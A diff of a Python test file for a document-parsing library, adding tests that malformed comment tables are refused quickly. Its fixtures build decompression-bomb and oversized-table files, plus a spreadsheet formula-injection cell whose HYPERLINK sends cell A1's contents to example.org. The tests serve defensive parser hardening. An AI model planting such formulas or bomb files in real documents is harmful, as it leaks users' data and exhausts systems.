@@ -11,8 +11,8 @@ from formats import make
 from milepost.formats import guards, sandbox
 from milepost.formats.comment_templates import read_comments
 from milepost.formats.errors import FormatError, UnreadableFile
+from milepost.formats.table_files import read_tables
 from milepost.formats.word import read_document, read_margin_comments
-from milepost.formats.workbooks import read_sheet
 
 SOON = 5  # seconds
 HEADER = "MB/NC,Line,Clause,Paragraph,Type,Comments,Proposed change,Observations\n"
@@ -128,7 +128,7 @@ HOSTILE = [
     ("text.xlsx", text("a,b"), "it is not a .xlsx file"),
     ("word.xlsx", docx, "is not a .xlsx file"),
     ("sheet.docx", lambda p: make.workbook(p, A1), "is not a .docx file"),
-    ("page.pdf", text(b"%PDF-1.7"), "it is not an .xlsx or .csv file"),
+    ("page.pdf", text(b"%PDF-1.7"), "it is not an .xlsx, .docx or .csv file"),
     *((f"cut{share}.xlsx", lambda p, share=share: cut(p, share / 100), "is cut short")
       for share in (5, 30, 60, 90, 99)),
     ("zip.csv", lambda p: make.workbook(p, A1), "is a zip archive"),
@@ -165,15 +165,82 @@ def test_a_hostile_file_is_refused_soon_with_one_sentence(tmp_path, name, write,
     assert "\n" not in str(refused.value)
 
 
+def wide_row(path):
+    """A million columns, in a file of a few kilobytes."""
+    cells = "<c><v>1</v></c>" * 1_000_000
+    make.workbook(path, f'<row r="1">{cells}</row>')
+
+
+def a_million_named(path):
+    make.workbook(path, f'<row r="1">{make.cell("BDWGN1", "x")}</row>')
+
+
+def formula(path):
+    head = "".join(
+        make.cell(f"{letter}1", heading)
+        for letter, heading in zip("ABCDEFGH", HEADER.strip().split(","), strict=True)
+    )
+    call = "HYPERLINK(&quot;http://example.org/?&quot;&amp;A1)"
+    cells = make.cell("A2", "NOR") + make.cell("C2", "1") + make.cell("E2", "te")
+    cells += f'<c r="F2" t="str"><f>{call}</f><v>click</v></c>'
+    make.workbook(path, f'<row r="1">{head}</row><row r="2">{cells}</row>')
+
+
+def table(rows):
+    return f"<w:tbl>{rows}</w:tbl>"
+
+
+def wide_table(path):
+    line = make.paragraph(make.run("x"))
+    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr>{line}</w:tc>'
+    docx(path, table(f"<w:tr>{cell * 3}</w:tr>" * 800))
+
+
+def many_cells(path):
+    docx(path, table(f"<w:tr>{'<w:tc><w:p/></w:tc>' * 1_500}</w:tr>"))
+
+
+TABLES = [
+    ("million.xlsx", wide_row, "unpacks to more than such a file needs"),
+    ("named.xlsx", a_million_named, "from A1 to BDWGN1 is more than 2,000,000 cells"),
+    ("formula.xlsx", formula, "row 2, column F: the cell holds a formula"),
+    ("spans.docx", wide_table, "no row holds the names of the columns"),
+    ("cells.docx", many_cells, "is damaged"),
+    ("macro.docm", docx, "contains macros. Save it as .docx"),
+    ("old.doc", text(OLE), "Office 97 to 2003: save it as .docx"),
+    ("none.docx", docx, "no row holds the names of the columns"),
+    ("blank.docx", lambda p: docx(p, table("<w:tr/>")), "blank.docx is empty"),
+    ("words.docx", lambda p: docx(p, table(
+        f"<w:tr><w:tc>{make.paragraph(make.run('x'))}</w:tc></w:tr>")),
+     "no row holds the names of the columns"),
+    *((name, write, words) for name, write, words in HOSTILE if name.endswith(".docx")),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "write", "words"), TABLES, ids=lambda v: str(v)[:12])
+def test_a_hostile_table_of_comments_is_refused_soon(tmp_path, name, write, words):
+    path = tmp_path / name
+    write(path)
+
+    start = time.perf_counter()
+    with pytest.raises(FormatError) as refused:
+        read_comments(path)
+
+    assert time.perf_counter() - start < SOON
+    assert words in str(refused.value)
+    assert name in str(refused.value)
+    assert "\n" not in str(refused.value)
+
+
 def test_the_corpus_of_hostile_files_is_not_cut_down():
-    assert len(HOSTILE) >= 40
+    assert len(HOSTILE) + len(TABLES) >= 60
 
 
 def test_a_file_that_is_not_there_is_said_to_be_so(tmp_path):
     with pytest.raises(UnreadableFile, match=r"gone\.docx cannot be found"):
         read_margin_comments(tmp_path / "gone.docx")
     with pytest.raises(UnreadableFile, match=r"gone\.csv cannot be found"):
-        read_sheet(tmp_path / "gone.csv")
+        read_tables(tmp_path / "gone.csv")
 
 
 def test_a_file_larger_than_the_limit_is_not_opened(tmp_path, monkeypatch):
@@ -182,7 +249,7 @@ def test_a_file_larger_than_the_limit_is_not_opened(tmp_path, monkeypatch):
     path.write_text("a,b,c,d,e,f")
 
     with pytest.raises(UnreadableFile, match=r"large\.csv is larger than"):
-        read_sheet(path)
+        read_tables(path)
 
 
 def test_signs_that_turn_the_line_round_are_kept_as_text(tmp_path):
@@ -213,7 +280,7 @@ def test_a_sheet_that_lies_about_its_size_is_read_all_the_same(tmp_path):
     make.workbook(path, A1, before="")
     make.workbook(path, A1, after=lie)
 
-    assert read_sheet(path).rows[0].cells == ("x",)
+    assert read_tables(path).tables[0].rows[0].cells == ("x",)
 
 
 # Readers for the sandbox: they must stand at the top of a module that the child finds.
